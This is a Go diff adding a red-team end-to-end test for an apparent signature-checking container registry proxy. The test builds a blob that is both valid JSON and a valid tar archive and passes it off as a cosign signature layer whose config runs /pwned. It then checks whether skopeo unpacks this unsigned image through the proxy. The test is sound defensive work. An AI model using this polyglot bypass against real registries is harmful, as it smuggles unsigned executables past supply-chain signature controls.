@@ -1,10 +1,18 @@
 package e2e
 
 import (
+	"bytes"
 	"context"
 	"encoding/json"
+	"fmt"
 	"net/http"
+	"os"
+	"path/filepath"
+	"runtime"
+	"strconv"
+	"strings"
 	"testing"
+	"time"
 
 	"github.com/google/go-containerregistry/pkg/v1/types"
 )
@@ -83,5 +91,131 @@ func TestRedTeamEmbeddedDataInSignatureIndex(t *testing.T) {
 			"(config and layers %v) was taken from the entry's data field; want refused", res.Digest, res.Children, evil.digest, evil.blobs)
 	} else {
 		t.Logf("crane failed to pull prod/app:v1, as it must: %v", err)
+	}
+}
+
+// jsonTarLayer is a layer that is at once one valid JSON object and a valid
+// uncompressed tar archive: a V7 tar header whose every field is printable
+// (numbers are space-terminated octal), opening with `{"a":"` in the file
+// name, and closing with `"}` in the padding after the file's data. The
+// one file it holds, name (cleaned to /name on extraction: the header's
+// name is `{"a":"/../././...//name`), has mode 0755 and contents content,
+// which must be printable ASCII without '"' or '\'.
+func jsonTarLayer(t testing.TB, name, content string) []byte {
+	t.Helper()
+	for _, c := range []byte(name + content) {
+		if c < 0x20 || c >= 0x7f || c == '"' || c == '\\' {
+			t.Fatalf("jsonTarLayer: %q is not plain printable ASCII", name+content)
+		}
+	}
+	hdr := bytes.Repeat([]byte("x"), 512)
+	n := `{"a":"/..`
+	n += strings.Repeat("/.", (100-len(n)-len(name)-1)/2)
+	n += strings.Repeat("/", 100-len(n)-len(name)) + name
+	copy(hdr[0:100], n)
+	copy(hdr[100:108], "0000755 ")
+	copy(hdr[108:116], "0000000 ")
+	copy(hdr[116:124], "0000000 ")
+	copy(hdr[124:136], fmt.Sprintf("%011o ", len(content)))
+	copy(hdr[136:148], "00000000000 ")
+	copy(hdr[148:156], "        ")
+	hdr[156] = '0'
+	sum := 0
+	for _, b := range hdr {
+		sum += int(b)
+	}
+	copy(hdr[148:156], fmt.Sprintf("%07o ", sum))
+	pad := (512 - len(content)%512) % 512
+	if pad < 2 {
+		pad += 512
+	}
+	tail := bytes.Repeat([]byte("x"), pad)
+	copy(tail[pad-2:], `"}`)
+	out := append(append(hdr, content...), tail...)
+	if !json.Valid(out) {
+		t.Fatal("jsonTarLayer: not valid JSON")
+	}
+	return out
+}
+
+// pushJSONTarImage pushes to repo:tag an OCI image manifest shaped like a
+// cosign signature manifest (its one layer declares the simple-signing
+// media type and its blob is a JSON object of under 64 KiB), whose layer is
+// also a tar holding /pwned, and whose config is a real image config that
+// lists that tar as its one diff and runs /pwned. It returns the layer's
+// digest.
+func pushJSONTarImage(t *testing.T, r *rawRegistry, repo, tag, marker string) (manifest craftedDescriptor, layer craftedDescriptor) {
+	t.Helper()
+	layerBytes := jsonTarLayer(t, "pwned", "#!/bin/sh echo "+marker)
+	layer = r.blob(repo, simpleSigningType, layerBytes)
+	cfg, err := json.Marshal(map[string]any{
+		"architecture": runtime.GOARCH,
+		"os":           "linux",
+		"config":       map[string]any{"Cmd": []string{"/pwned"}},
+		"rootfs":       map[string]any{"type": "layers", "diff_ids": []string{layer.Digest}},
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	config := r.blob(repo, string(types.OCIConfigJSON), cfg)
+	manifest, _ = r.manifestJSON(repo, tag, craftedManifest{
+		SchemaVersion: 2, MediaType: string(types.OCIManifestSchema1),
+		Config: &config, Layers: &[]craftedDescriptor{layer},
+	})
+	return manifest, layer
+}
+
+// TestRedTeamJSONTarLayerInSignatureManifest: an image manifest whose
+// layers all declare a signature media type and whose layer blobs are JSON
+// objects is admitted as a signature artifact, without signatures, on the
+// ground that "a media type is only a label" and JSON is not runnable. But
+// a JSON object can also be a valid tar archive (jsonTarLayer), and the
+// config of such a manifest is not looked at. containers/image (skopeo,
+// podman, buildah, CRI-O) detects a layer's compression from its bytes,
+// not its media type, and applies it: `skopeo copy` from the proxy into
+// containers-storage stores an unsigned image whose layer put the
+// attacker's /pwned (mode 0755) into its root filesystem, with the
+// attacker's config (Cmd /pwned). skopeo into docker-daemon: loads it into
+// Docker the same way.
+//
+// Fails until the proxy stops admitting, as a signature artifact, an image
+// manifest whose layers a client could unpack (for instance by requiring
+// the config to be the empty or a cosign config, and the layer blobs not
+// to parse as tar).
+func TestRedTeamJSONTarLayerInSignatureManifest(t *testing.T) {
+	t.Parallel()
+	Require(t, "skopeo")
+	l := newGateLab(t)
+	p := l.proxy(t, l.registry, l.registry)
+	marker := "unsigned-" + strconv.FormatInt(time.Now().UnixNano(), 36)
+	evil, layer := pushJSONTarImage(t, l.raw, "prod/app", "v1", marker)
+
+	a := send(t, http.MethodGet, manifestURL(p.addr, "prod/app", "v1"), "Accept", manifestAccept)
+	if a.status == http.StatusOK {
+		t.Errorf("proxy served prod/app:v1 (%s), an unsigned image manifest whose layer is a tar, with 200: %s", evil.Digest, a.header.Get("Docker-Content-Digest"))
+	}
+
+	dir := t.TempDir()
+	writeFile(t, filepath.Join(dir, "policy.json"), `{"default":[{"type":"insecureAcceptAnything"}]}`)
+	store := filepath.Join(dir, "storage")
+	dest := "containers-storage:[vfs@" + store + "+" + filepath.Join(dir, "run") + "]localhost/app:v1"
+	ctx, cancel := context.WithTimeout(context.Background(), clientTimeout)
+	defer cancel()
+	out, err := runTool(ctx, nil, "skopeo", "--policy", filepath.Join(dir, "policy.json"),
+		"copy", "--retry-times", "0", "--src-tls-verify=false", "--src-no-creds",
+		"docker://"+p.addr+"/prod/app:v1", dest)
+	if err != nil {
+		t.Logf("skopeo copy into containers-storage failed: %v\n%s", err, out)
+		return
+	}
+	// The layer was unpacked: find /pwned in the vfs layer directories.
+	found, _ := filepath.Glob(filepath.Join(store, "vfs", "dir", "*", "pwned"))
+	for _, f := range found {
+		b, _ := os.ReadFile(f)
+		st, _ := os.Stat(f)
+		t.Errorf("skopeo copied the unsigned prod/app:v1 through the proxy into containers-storage and unpacked its layer %s: %s (mode %v) holds %q", layer.Digest, f, st.Mode(), b)
+	}
+	if len(found) == 0 {
+		t.Errorf("skopeo copied the unsigned prod/app:v1 (%s) through the proxy into containers-storage:\n%s", evil.Digest, out)
 	}
 }
